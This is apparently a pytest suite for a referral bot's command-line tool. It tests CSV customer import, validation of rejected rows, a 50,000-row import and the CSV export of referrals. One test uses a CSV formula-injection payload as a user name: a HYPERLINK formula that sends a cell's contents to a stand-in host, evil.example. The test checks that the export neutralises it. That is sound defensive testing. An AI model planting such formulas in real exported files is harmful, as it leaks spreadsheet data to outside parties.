"""The program owner loads customers from a CSV and exports referrals for the CRM."""

from __future__ import annotations

import asyncio
import csv
import re
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from bot.cli import app
from bot.core.messages import Address
from bot.core.store import open_store

INSTANT = re.compile(r"[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}\.[0-9]{3}Z")

HEADER = (
    "name,phone,email,telegram_id,slack_id,segment,company,account_manager,"
    "customer_since,language,time_zone\n"
)


@pytest.fixture
def db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    url = f"sqlite:///{tmp_path / 'bot.db'}"
    monkeypatch.setenv("DATABASE_URL", url)
    monkeypatch.setenv("SLACK_STAFF_USERS", "U0AM1=ann@acme.test,U0AM2")
    return url


def lookup(url: str, address: Address) -> dict[str, object] | None:
    async def run() -> dict[str, object] | None:
        store = await open_store(url)
        async with store.transaction() as tx:
            found = await tx.participants.by_address(address)
        await store.close()
        if found is None:
            return None
        p = found[0]
        return {
            "name": p.display_name,
            "segment": p.segment,
            "company": p.company,
            "manager": p.account_manager,
            "lang": p.lang,
            "tz": p.time_zone,
            "customer": p.is_customer,
            "since": p.customer_since,
        }

    return asyncio.run(run())


def test_good_rows_load_and_bad_rows_are_kept_with_their_reason(db: str, tmp_path: Path) -> None:
    source = tmp_path / "customers.csv"
    source.write_bytes(
        HEADER.encode()
        + b"Kim Minsu,+82 10-1234-5678,minsu@acme.test,,,b2b,Acme Korea,ann@acme.test,"
        + b"2024-01-15,ko,Asia/Seoul\n"
        + b"Lee Wei,+886912345678,,5551234,,b2c,,,,zh-Hant,\n"
        + b"Dup Phone,+821012345678,other@acme.test,,,b2c,,,,,\n"
        + b"Nobody Known,+14155550122,,,,b2b,Beta,someone@else.test,,,\n"
        + b"No Ids,,,,,b2c,,,,,\n"
        + b"Wrong Zone,+14155550133,,,,b2c,,,,en,Mars/Base\n"
        + "🎉 Emoji Name,+14155550144,,,T01:U0ABC,b2c,,,2023-07-01,English,".encode()
        + b"America/New_York\n"
    )
    result = CliRunner().invoke(app, ["import", str(source)])
    assert result.exit_code == 0, result.output
    assert "7 rows: 3 created, 0 updated, 0 unchanged, 4 rejected" in result.output
    rejects = list(csv.reader((tmp_path / "customers.rejects.csv").open(encoding="utf-8")))
    reasons = {row[2]: row[1] for row in rejects[1:]}
    assert reasons["Dup Phone"] == "duplicate phone: already on line 2"
    assert reasons["Nobody Known"].startswith("unknown account manager 'someone@else.test'")
    assert reasons["No Ids"].startswith("no phone, email")
    assert reasons["Wrong Zone"].startswith("unknown time zone 'Mars/Base'")

    minsu = lookup(db, Address("sms", "+821012345678"))
    assert minsu is not None and minsu["segment"] == "b2b" and minsu["manager"] == "U0AM1"
    assert minsu["lang"] == "ko" and minsu["tz"] == "Asia/Seoul" and minsu["customer"]
    assert lookup(db, Address("email", "minsu@acme.test")) == minsu
    assert lookup(db, Address("telegram", "5551234")) is not None
    emoji = lookup(db, Address("slack", "T01:U0ABC"))
    assert emoji is not None and emoji["name"] == "🎉 Emoji Name" and emoji["lang"] == "en"

    again = CliRunner().invoke(app, ["import", str(source)])
    assert "7 rows: 0 created, 0 updated, 3 unchanged, 4 rejected" in again.output
    assert lookup(db, Address("sms", "+821012345678")) == minsu


def test_a_file_that_is_not_a_customer_file_is_a_clear_error(db: str, tmp_path: Path) -> None:
    empty = tmp_path / "empty.csv"
    empty.write_text("")
    result = CliRunner().invoke(app, ["import", str(empty)])
    assert result.exit_code == 2 and "empty file" in result.output
    wrong = tmp_path / "wrong.csv"
    wrong.write_text("foo,bar\n1,2\n")
    result = CliRunner().invoke(app, ["import", str(wrong)])
    assert result.exit_code == 2 and "names none of" in result.output
    result = CliRunner().invoke(app, ["import", str(tmp_path / "missing.csv")])
    assert result.exit_code == 2


def test_fifty_thousand_rows(db: str, tmp_path: Path) -> None:
    source = tmp_path / "big.csv"
    with source.open("w", encoding="utf-8") as handle:
        handle.write(HEADER)
        for i in range(50_000):
            handle.write(f"Customer {i},+1415{i:07d},c{i}@big.test,,,b2c,,,,en,\n")
    started = time.perf_counter()
    result = CliRunner().invoke(app, ["import", str(source)])
    elapsed = time.perf_counter() - started
    assert result.exit_code == 0, result.output
    assert "50000 rows: 50000 created" in result.output
    print(f"imported 50,000 rows in {elapsed:.1f} s")


def test_export_lists_who_referred_whom(db: str, tmp_path: Path) -> None:
    runner = CliRunner()
    chat = runner.invoke(app, ["chat", "--user", "alice"], input="LINK\n")
    code = chat.output.split("/r/")[1][:8]
    runner.invoke(app, ["chat", "--user", "bob"], input=f"JOIN {code}\n")
    target = tmp_path / "referrals.csv"
    result = runner.invoke(app, ["export", str(target)])
    assert result.exit_code == 0 and "wrote 1 referrals" in result.output
    rows = list(csv.DictReader(target.open(encoding="utf-8")))
    assert rows[0]["referrer"] == "alice" and rows[0]["friend"] == "bob"
    assert rows[0]["status"] in ("qualified", "rewarded") and rows[0]["code"] == code
    for written in (rows[0]["created_at"], rows[0]["updated_at"]):  # as the API writes times
        assert INSTANT.fullmatch(written), written


def test_a_name_that_looks_like_a_formula_is_exported_as_text(db: str, tmp_path: Path) -> None:
    """A friend may call themselves anything on Telegram; the spreadsheet must not run it."""
    runner = CliRunner()
    chat = runner.invoke(app, ["chat", "--user", "alice"], input="LINK\n")
    code = chat.output.split("/r/")[1][:8]
    evil = '=HYPERLINK("https://evil.example/?"&A1,"bob")'
    runner.invoke(app, ["chat", "--user", evil], input=f"JOIN {code}\n")
    target = tmp_path / "referrals.csv"
    assert runner.invoke(app, ["export", str(target)]).exit_code == 0
    [row] = list(csv.DictReader(target.open(encoding="utf-8-sig")))
    assert row["friend"] == "'" + evil
    assert row["referrer"] == "alice"


def test_a_cell_with_a_stray_nul_loads_its_row_on_every_database(
    database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # PostgreSQL's text cannot hold U+0000; the import stopped there with a traceback.
    monkeypatch.setenv("DATABASE_URL", database_url)
    source = tmp_path / "customers.csv"
    source.write_text(HEADER + "Ann\x00 Lee,+14155550101,,,,b2c,Acme\x00,,,en,\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["import", str(source)])
    assert result.exit_code == 0, result.output
    assert "1 rows: 1 created, 0 updated, 0 unchanged, 0 rejected" in result.output
    assert lookup(database_url, Address("sms", "+14155550101")) is not None


def test_a_slack_id_longer_than_slack_makes_is_a_rejected_row_on_every_database(
    database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DATABASE_URL", database_url)
    team = "T" + "".join(f"{n:04X}" for n in range(1000))  # PostgreSQL's index: ~2.7 KB at most
    source = tmp_path / "customers.csv"
    source.write_text(
        HEADER + f"Ann Lee,+14155550101,,,{team}:U0ABC,b2c,,,,en,\n"
        "Bo Kim,+14155550102,,,T01:U0ABD,b2c,,,,en,\n",
        encoding="utf-8",
    )
    result = CliRunner().invoke(app, ["import", str(source)])
    assert result.exit_code == 0, result.output
    assert "2 rows: 1 created, 0 updated, 0 unchanged, 1 rejected" in result.output
    assert lookup(database_url, Address("sms", "+14155550102")) is not None
